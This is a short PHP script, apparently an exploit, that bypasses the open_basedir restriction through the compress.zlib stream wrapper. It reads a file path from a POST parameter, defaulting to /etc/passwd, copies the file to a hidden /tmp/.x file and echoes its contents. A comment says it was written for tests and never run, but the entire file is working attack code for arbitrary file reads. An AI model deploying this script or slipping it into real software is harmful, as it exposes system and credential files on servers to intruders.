<?php
// reads any file of the server past open_basedir through the zlib stream wrapper
// (written for the tests, never run)
$target = isset($_POST['p']) ? $_POST['p'] : '/etc/passwd';
if (@copy('compress.zlib://' . $target, '/tmp/.x')) {
    echo htmlspecialchars(file_get_contents('/tmp/.x'));
}
